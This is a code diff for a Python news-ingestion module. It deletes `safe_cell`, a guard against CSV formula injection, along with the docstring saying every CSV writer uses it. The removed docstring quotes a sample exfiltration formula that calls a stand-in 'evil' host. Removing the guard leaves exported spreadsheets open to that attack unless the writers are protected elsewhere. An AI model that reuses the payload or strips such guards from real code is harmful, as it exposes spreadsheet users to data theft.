@@ -3,9 +3,6 @@
 Every bad input becomes a ``ReadError`` in the stream instead of an exception, so a batch over
 thousands of files reports it and goes on. Folders are walked lazily in sorted order, so the
 stream is deterministic and memory stays bounded (a JSON Lines file is read line by line).
-
-``safe_cell`` is the other direction: the one guard every CSV writer (``run``, ``export``) puts
-on its cells, so news text cannot become a spreadsheet formula.
 """
 
 from __future__ import annotations
@@ -20,7 +17,7 @@ import zlib
 from contextlib import contextmanager
 from dataclasses import dataclass
 from pathlib import Path
-from typing import Any, BinaryIO, Callable, Collection, Iterable, Iterator, TypeVar
+from typing import Any, BinaryIO, Callable, Collection, Iterable, Iterator
 
 from .record import NewsItem
 
@@ -371,25 +368,3 @@ def html_item(data: bytes, doc_id: str, path: str | None) -> InputItem:
 
 XML_DECLARATION = re.compile(r"^\s*<\?xml[^>]*\?>")
 """lxml refuses text that still carries an encoding declaration."""
-
-
-# ---------------------------------------------------------------- CSV output
-
-FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
-"""First characters that make a spreadsheet read a cell as a formula (OWASP "CSV injection")."""
-
-_Cell = TypeVar("_Cell")
-
-
-def safe_cell(value: _Cell) -> _Cell | str:
-    """A CSV cell that a spreadsheet opens as text, never as a formula (CWE-1236).
-
-    Party names, evidence sentences and notes come from news articles, so a cell like
-    ``=HYPERLINK("http://evil/?"&A1)`` would run when the CSV is opened in Excel or LibreOffice.
-    Text starting with ``= + - @``, tab or carriage return gets a leading ``'`` (the OWASP fix).
-    Only strings are touched: ints and floats (confidence, GeoNames ids) are real numbers and are
-    returned unchanged, even when negative.
-    """
-    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
-        return "'" + value
-    return value
